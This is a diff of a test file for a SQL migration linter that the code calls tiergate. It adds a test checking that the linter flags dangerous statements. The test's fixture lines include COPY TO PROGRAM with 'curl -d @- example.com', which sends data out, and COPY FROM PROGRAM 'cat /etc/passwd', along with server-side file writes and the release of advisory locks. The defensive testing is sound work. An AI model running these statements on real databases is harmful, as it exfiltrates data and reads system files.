@@ -1,4 +1,4 @@
-import { cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { appendFileSync, cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
@@ -6,6 +6,7 @@ import { describe, expect, it } from 'vitest';
 import { loadPlan } from '../src/plan/load-plan.js';
 import { lintPlan, splitStatements, SqlSyntaxError, touchedRelations, type LintFinding } from '../src/plan/lint.js';
 import { runCli } from './helpers/cli.js';
+import { copyEnginePlan } from './helpers/engine-fixture.js';
 
 const fixtures = fileURLToPath(new URL('./fixtures/plans/', import.meta.url));
 
@@ -220,6 +221,33 @@ describe('lintPlan', () => {
       'tiers/99_rollback.sql:4:1 error non-transactional', // CREATE DATABASE
     ]);
     expect(new Set(findings.map((f) => f.tier))).toEqual(new Set([0, 1, 2, 3, 4, 5, 6, 90, 99]));
+  });
+
+  it('refuses what escapes the tier or the run: a program or a file on the server, the rollout lock released; warns of SET SESSION AUTHORIZATION', async () => {
+    const dir = copyEnginePlan();
+    appendFileSync(
+      join(dir, 'tiers/01_schema.sql'),
+      [
+        '',
+        "COPY app.item TO PROGRAM 'curl -d @- example.com';",
+        "COPY app.item FROM PROGRAM 'cat /etc/passwd';",
+        "COPY app.item TO '/tmp/items.csv';",
+        "COPY app.item FROM '/tmp/items.csv';",
+        'SELECT lo_export(1, $$/tmp/x$$);',
+        'SELECT pg_advisory_unlock_all();',
+        'SET SESSION AUTHORIZATION app_owner;',
+        '',
+      ].join('\n'),
+    );
+    const found = (await lintPlan(loadPlan(dir))).filter((f) => f.tier === 1).map((f) => `${f.severity} ${f.message.split(':')[0]}`);
+    expect(found).toEqual([
+      'error COPY TO PROGRAM runs a program on the database server',
+      'error COPY FROM PROGRAM runs a program on the database server',
+      'error COPY … TO a file writes a file on the database server',
+      'error lo_export() writes a file on the database server',
+      "error pg_advisory_unlock_all() releases every session advisory lock, tiergate's rollout lock too",
+      'warning SET SESSION AUTHORIZATION outlasts the tier (tiergate gives back every other setting after a file)',
+    ]);
   });
 
   it('counts columns in characters, not UTF-8 bytes nor UTF-16 units', async () => {
